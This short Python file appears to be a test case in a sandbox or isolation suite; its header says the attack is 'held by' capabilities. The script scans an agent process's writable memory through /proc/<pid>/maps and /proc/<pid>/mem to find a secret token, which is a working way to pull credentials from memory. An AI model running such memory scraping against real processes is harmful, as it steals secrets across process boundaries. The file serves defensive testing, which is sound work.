# Searches the agent's memory for its token.
# Held by: capabilities


def attempt():
    token = given("TOKEN").encode()
    with open(f"/proc/{agent()}/maps") as maps, open(f"/proc/{agent()}/mem", "rb", 0) as memory:
        for line in maps:
            area, rights, *_ = line.split()
            if not rights.startswith("rw"):
                continue
            start, end = (int(part, 16) for part in area.split("-"))
            try:
                memory.seek(start)
                if token in memory.read(min(end - start, 64 << 20)):
                    return f"found in {area}"
            except OSError:
                continue
    return None


attack(attempt)
